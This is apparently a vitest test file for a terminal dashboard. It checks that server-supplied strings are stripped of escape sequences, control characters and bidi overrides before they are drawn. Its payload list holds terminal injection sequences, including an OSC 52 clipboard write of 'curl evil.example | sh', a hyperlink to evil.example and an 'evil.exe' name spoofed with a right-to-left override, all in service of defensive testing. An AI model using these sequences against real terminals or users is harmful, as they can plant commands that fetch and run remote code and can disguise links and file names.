import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import stringWidth from 'string-width';
import { buildPath } from '../../src/client/route-path.js';
import { routes, type RouteDef } from '../../src/contract/routes.js';
import { queryAt } from '../../src/dashboard/state/resources.js';
import { issueToken } from '../../src/server/tokens.js';
import { screens } from '../../screens/index.js';
import { fixtureConfig } from '../helpers/fixtures.js';
import { startTestServer, type TestServer } from '../helpers/server.js';
import { renderDashboard, type DashboardHarness } from '../helpers/dashboard.js';
import { json, startHostile, type HostileServer } from '../helpers/hostile-server.js';
import { EMPTY_SCREEN_STATE } from '../../src/dashboard/kit/screen-state.js';

// Colour on, as in a real terminal: Ink's own SGR codes are then in the frames, and the check
// below tells them apart from anything a server string could smuggle in.
const colourBefore = vi.hoisted(() => {
  const before = process.env.FORCE_COLOR;
  process.env.FORCE_COLOR = '3';
  return before;
});

/**
 * Issue 5, point 2: server strings carrying escape sequences and control characters are
 * neutralised before they reach the terminal, checked on the bytes the dashboard writes.
 */
const ESC = '\x1b';
const MARK = 'ZQX';
/** Everything a terminal would act on, one after the other. */
const PAYLOAD = [
  `${MARK}`,
  `${ESC}[5;38;5;196mBLINK${ESC}[0m`, // SGR Ink never writes (blink, 256 colours)
  `${ESC}[8mconcealed`,
  `${ESC}[2J${ESC}[H${ESC}[10;20H${ESC}[3A${ESC}[K`, // clear screen, cursor moves, erase
  `${ESC}]0;pwned-title\x07`, // window title (OSC 0), BEL-terminated
  `${ESC}]2;pwned-title-2${ESC}\\`, // window title (OSC 2), ST-terminated
  `${ESC}]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}\x07`, // clipboard write
  `${ESC}]8;;https://evil.example/${ESC}\\click-me${ESC}]8;;${ESC}\\`, // hyperlink
  `${ESC}P1$r0m${ESC}\\`, // DCS
  `${ESC}_apc${ESC}\\${ESC}^pm${ESC}\\`, // APC, PM
  '\u009b31m\u009d0;c1-title\u009c', // 8-bit CSI and OSC
  'bell\x07',
  'back\b\b\bspace',
  'carriage\rreturn',
  'line\nfeed\ttab\vvt\ffeed',
  '\u202Eevil.exe\u202C',
  '\u2066isolate\u2069',
  '\u200Fmark\u200E',
  '\u061C',
  `${ESC}c`, // full reset
].join(' ');
const LONG = `${PAYLOAD} ${'long-'.repeat(600)}`; // and a very long line

const COLUMNS = 110;
const ROWS = 32;

/** Every escape sequence in `s` that is not one of Ink's own single-parameter colour codes. */
function foreignSequences(s: string): string[] {
  const out: string[] = [];
  for (const m of s.matchAll(/\x1b(\[[0-9;?]*[\x20-\x2f]*[\x40-\x7e]|.?)/gs)) {
    const sgr = /^\x1b\[(\d{1,2})m$/.exec(m[0]);
    if (sgr && OWN_SGR.has(Number(sgr[1]))) continue;
    out.push(JSON.stringify(m[0]));
  }
  return out;
}
// chalk: reset, bold, dim, italic, underline, inverse, strike, their offs, 16 colours and default
const OWN_SGR = new Set([
  0,
  1,
  2,
  3,
  4,
  7,
  9,
  22,
  23,
  24,
  27,
  29,
  39,
  49,
  ...range(30, 37),
  ...range(90, 97),
  ...range(40, 47),
  ...range(100, 107),
]);
function range(a: number, b: number) {
  return Array.from({ length: b - a + 1 }, (_, i) => a + i);
}

/** The bytes written are safe: no foreign escape, no control character but the line feed, no bidi, no line wider than the terminal. */
function expectSafe(written: string, what: string) {
  expect(foreignSequences(written), `${what}: escape sequences`).toEqual([]);
  const stripped = written.replace(/\x1b\[\d{1,3}m/g, '');
  const controls = [
    ...stripped.matchAll(/[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/g),
  ].map((m) => m[0].codePointAt(0)!.toString(16));
  expect([...new Set(controls)], `${what}: control or bidi characters`).toEqual([]);
  const wide = stripped.split('\n').filter((l) => stringWidth(l) > COLUMNS);
  expect(wide.length, `${what}: lines wider than the terminal`).toBe(0);
}

/** Each string of a JSON value replaced by MARK + the payload, plus an unknown field carrying it. */
function infect(v: unknown): unknown {
  if (typeof v === 'string') return `${MARK} ${LONG}`;
  if (Array.isArray(v)) return v.map(infect);
  if (v && typeof v === 'object')
    return {
      ...Object.fromEntries(Object.entries(v).map(([k, x]) => [k, infect(x)])),
      [`x-${PAYLOAD.slice(0, 80)}`]: PAYLOAD,
    };
  return v;
}

let s: TestServer;
let h: HostileServer;
let hostileToken: string;

beforeAll(async () => {
  // A real server whose configuration and token names carry the payload.
  s = await startTestServer({
    config: (root) => {
      const base = fixtureConfig(root);
      return {
        ...base,
        appliance: { name: `${MARK}-appliance ${PAYLOAD}`, site: LONG },
        connectors: base.connectors.map((c, i) => ({
          ...c,
          name: `${MARK}-connector${i} ${PAYLOAD}`,
          rbac_labels: [LONG],
          sources: c.sources.map((src) => ({ ...src, name: `${MARK}-source ${PAYLOAD}` })),
        })),
        channels: base.channels.map((c) => ({ ...c, name: `${MARK}-channel ${PAYLOAD}` })),
        models: base.models.map((m) => ({ ...m, name: `${MARK}-model ${PAYLOAD}`, quantization: PAYLOAD })),
      };
    },
  });
  hostileToken = issueToken(s.server.db, 'it_admin', `${MARK}-subject ${PAYLOAD}`).token;
  // an audited change by that subject: the audit trail's actor carries the payload
  expect(
    (await s.call('PUT', '/channels', { token: hostileToken, body: { channels: [{ id: 'chan_web', enabled: true }] } }))
      .status,
  ).toBe(200);

  // A hostile server answering every GET of every screen with the real shapes, every string infected.
  h = await startHostile({ upstream: s.url });
  for (const screen of screens) {
    for (const r of [...screen.resources(EMPTY_SCREEN_STATE), { route: 'session' as const }]) {
      const def = routes[r.route] as RouteDef;
      const res = await s.call(
        'GET',
        buildPath(def, '', 'params' in r ? r.params : undefined, 'query' in r ? queryAt(r) : undefined),
      );
      h.set(def.path, json(infect(res.json)));
    }
  }
});
afterAll(async () => {
  await h?.close();
  await s?.close();
  // a worker may run another file next: it must not inherit forced colour
  if (colourBefore === undefined) delete process.env.FORCE_COLOR;
  else process.env.FORCE_COLOR = colourBefore;
});

async function visitEveryScreen(d: DashboardHarness) {
  for (const screen of screens) {
    await d.press(':');
    await d.type(screen.name);
    await d.press('enter');
    await d.waitFor((f) => f.includes(`[${screen.name}]`) && !f.includes('Loading…'), `${screen.name} drawn`);
    await d.waitFor((f) => f.includes(MARK), `${screen.name} shows a server string`).catch(() => undefined);
    await d.press('enter');
    // a row that links elsewhere (an overview line) opens the screen of its cause instead
    await d.waitFor(
      (f) =>
        f.includes('Detail:') ||
        f.includes('nothing to show') ||
        (Boolean(screen.open) && !f.includes(`[${screen.name}]`)),
      `${screen.name} detail`,
    );
    await d.press('esc');
  }
}

describe('terminal safety', () => {
  it('the frames carry colour codes at all (so the check below is meaningful)', async () => {
    const d = renderDashboard({ server: s, screen: 'channels', columns: COLUMNS, rows: ROWS });
    try {
      await d.waitForText('● connected');
      expect(d.allFrames()).toMatch(/\x1b\[32m/);
    } finally {
      await d.unmount();
    }
  });

  it('hostile names from a real server (config, token name, audit actor) never reach the terminal raw', async () => {
    const d = renderDashboard({ server: s, token: hostileToken, screen: 'connectors', columns: COLUMNS, rows: ROWS });
    try {
      await d.waitForText(`${MARK}-subject`); // the header's subject
      await d.waitForText(`${MARK}-connector0`);
      await visitEveryScreen(d);
      const all = d.allFrames();
      for (const shown of ['-connector0', '-channel', '-model', '-appliance'])
        expect(all, shown).toContain(`${MARK}${shown}`);
      expect(all.match(new RegExp(`${MARK}-subject`, 'g'))!.length).toBeGreaterThan(1); // header and audit actor
      expectSafe(all, 'real server');
    } finally {
      await d.unmount();
    }
  });

  it('every field of every screen, infected by a hostile server, in lists, custom views, details and the header', async () => {
    const d = renderDashboard({
      url: h.url,
      token: s.tokens.it_admin,
      screen: 'connectors',
      columns: COLUMNS,
      rows: ROWS,
    });
    try {
      await d.waitForText(MARK);
      await visitEveryScreen(d);
      expect(d.crashed()).toBeNull();
      expectSafe(d.allFrames(), 'hostile server');
    } finally {
      await d.unmount();
    }
  });

  it('error banners and action dialogs: a hostile problem+json and a hostile identity-check result', async () => {
    const problem = {
      type: PAYLOAD,
      title: PAYLOAD,
      status: 409,
      code: `${MARK}${PAYLOAD}`,
      detail: `${MARK}-detail ${PAYLOAD}`,
      request_id: PAYLOAD,
      invalid_params: [{ name: PAYLOAD, reason: LONG }],
    };
    h.set('/channels', json(problem, 409));
    h.set('/session', null); // the real session: changes are offered
    const d = renderDashboard({
      url: h.url,
      token: s.tokens.it_admin,
      screen: 'channels',
      columns: COLUMNS,
      rows: ROWS,
    });
    try {
      await d.waitForText(`${MARK}-detail`); // the banner
      // a change refused with the same problem: the dialog with code, request id and invalid params
      h.set('/gateway/keys', (req, res) =>
        req.method === 'POST'
          ? json(problem, 409)(req, res)
          : json({ data: [], next_cursor: null, has_more: false })(req, res),
      );
      await d.press(':');
      await d.type('keys');
      await d.press('enter');
      await d.waitForText('[keys]');
      await d.press('n');
      await d.waitForText('Create a gateway key');
      await d.type('harmless');
      await d.press('enter');
      await d.waitForText('new key failed');
      await d.waitForText(`${MARK}-detail`);
      await d.press('enter');
      // the refused form comes back with what was sent and the reason: given up with Esc
      await d.waitForText('Not accepted');
      await d.press('esc');
      await d.waitFor((f) => !f.includes('Create a gateway key'), 'the form closed');
      // the identity check's result, step details included, in the dialog and on the screen
      h.set(
        '/identity/test',
        json({
          ok: false,
          provider: 'oidc',
          target: PAYLOAD,
          checked_at: PAYLOAD,
          duration_ms: 3,
          steps: [{ id: PAYLOAD, status: 'failed', duration_ms: 1, detail: `${MARK}-step ${PAYLOAD}` }],
        }),
      );
      await d.press(':');
      await d.type('identity');
      await d.press('enter');
      await d.waitForText('[identity]');
      await d.press('t');
      await d.waitForText('Check an identity provider');
      await d.press('tab');
      await d.type('https://idp.example.com');
      await d.press('enter');
      await d.waitForText('Identity check failed');
      await d.press('enter');
      await d.waitForText(`${MARK}-step`);
      expect(d.crashed()).toBeNull();
      expectSafe(d.allFrames(), 'errors and dialogs');
    } finally {
      for (const p of ['/channels', '/gateway/keys', '/identity/test', '/session']) h.set(p, null);
      await d.unmount();
    }
  });
});
